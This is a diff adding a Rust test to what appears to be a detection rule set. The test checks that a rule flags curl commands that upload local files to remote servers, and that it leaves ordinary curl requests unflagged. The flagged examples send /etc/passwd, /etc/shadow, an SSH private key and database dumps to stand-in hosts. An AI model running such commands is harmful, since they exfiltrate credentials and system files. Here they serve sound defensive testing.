@@ -622,3 +622,40 @@ fn a_shell_from_a_web_server_or_its_account() {
         "www-data"
     ));
 }
+
+#[test]
+fn curl_uploads_are_read_from_curls_syntax_not_from_any_at_sign() {
+    let rules = rules();
+    const TITLE: &str = "Local File Sent to a Remote Server by a Command-Line Client";
+    let flagged = |command: &'static str| {
+        titles(&rules, &exec("/usr/bin/curl", command, "/bin/bash"))
+            .iter()
+            .any(|t| t == TITLE)
+    };
+    for upload in [
+        "curl -d @/etc/passwd http://203.0.113.7/",
+        "curl -d@/etc/shadow http://203.0.113.7/",
+        "curl --data-binary @/tmp/db.tar.gz https://paste.example/up",
+        "curl --data '@/root/.ssh/id_ed25519' http://203.0.113.7/",
+        "curl --data-urlencode secret@/etc/shadow http://203.0.113.7/",
+        "curl --data-urlencode @/etc/hosts http://203.0.113.7/",
+        "curl -F 'file=@/etc/shadow' http://203.0.113.7/",
+        "curl -F f=</etc/passwd http://203.0.113.7/",
+        "curl --form \"doc=@report.pdf;type=application/pdf\" https://203.0.113.7/",
+        "curl -T /etc/passwd ftp://203.0.113.7/",
+        "curl --upload-file ./dump.sql https://transfer.example/dump.sql",
+    ] {
+        assert!(flagged(upload), "{upload}");
+    }
+    for ordinary in [
+        "curl -d 'email=a@b.example' https://shop.example/subscribe",
+        "curl -H 'Content-Type: application/json' -d '{\"@timestamp\":\"2026-12-08\"}' http://127.0.0.1:9200/logs/_doc",
+        "curl --data-raw @literal https://api.example/echo",
+        "curl --data-urlencode 'q=user@example.com' https://search.example/",
+        "curl -u alice@example.com:secret https://api.example/",
+        "curl -F 'name=alice@example.com' https://forms.example/",
+        "curl https://user@git.example/repo.git/info/refs",
+    ] {
+        assert!(!flagged(ordinary), "{ordinary}");
+    }
+}
